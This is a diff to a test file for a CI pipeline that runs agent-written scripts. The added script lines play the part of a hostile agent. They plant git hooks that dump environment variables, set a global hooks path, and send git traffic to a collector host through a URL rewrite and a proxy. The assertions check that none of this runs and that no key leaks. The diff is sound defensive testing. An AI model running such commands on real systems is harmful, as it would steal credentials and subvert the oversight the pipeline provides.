@@ -115,6 +115,16 @@ describe.skipIf(pipelineSkip)('secrets in the pipeline', () => {
         '    i=$((i + 1)); sleep 0.1',
         '  done ) </dev/null >/dev/null 2>&1 &',
         'sleep 0.5',
+        // Code the agent plants for the pipeline's own git commands to run: hooks, a global hooks
+        // path, a URL rewrite and a proxy. None of it may run or redirect a credentialed command.
+        'for h in pre-commit commit-msg pre-push reference-transaction post-checkout; do',
+        // The marker is assembled when a hook runs, so the script's own text (logged) never contains it.
+        "  printf '#!/bin/sh\\necho HOOK-$(echo RAN)-$0 >&2\\nenv >&2\\n' > .git/hooks/$h; chmod +x .git/hooks/$h",
+        'done',
+        'mkdir -p "$HOME/hooks" && cp .git/hooks/pre-push "$HOME/hooks/pre-push"',
+        'git config --global core.hooksPath "$HOME/hooks"',
+        `git config url.${collector.url}/.insteadOf http://`,
+        `git config http.proxy ${collector.url}`,
         `echo "the key is ${openAiKey}"`,
         `echo "its base64 is ${openAiKeyBase64}"`,
       ].join('\n')
@@ -208,7 +218,12 @@ describe.skipIf(pipelineSkip)('secrets in the pipeline', () => {
       // Redaction holds back the tail of a stream (a secret may continue in its next chunk), but
       // never across the pipeline's own lines: they stay whole and in order.
       expect(log).toMatch(/its base64 is \*\*\*\S*\nscript finished in [\d.]+ s\n/)
-      expect(log).toContain(`$ git push --porcelain --progress origin HEAD:refs/heads/task-${task.number}\n`)
+      expect(log).toMatch(
+        new RegExp(
+          `\\$ git push --porcelain --progress \\S+ refs/heads/task-${task.number}:refs/heads/task-${task.number}\\n`,
+        ),
+      )
+      expect(log, 'a planted hook ran inside a pipeline git command').not.toContain('HOOK-RAN-')
       expect(log.indexOf('$ git commit')).toBeLessThan(log.indexOf('$ git push'))
       expect(leaks(log, openAiKey)).toEqual([])
       expect(log).not.toContain(openAiKeyBase64)
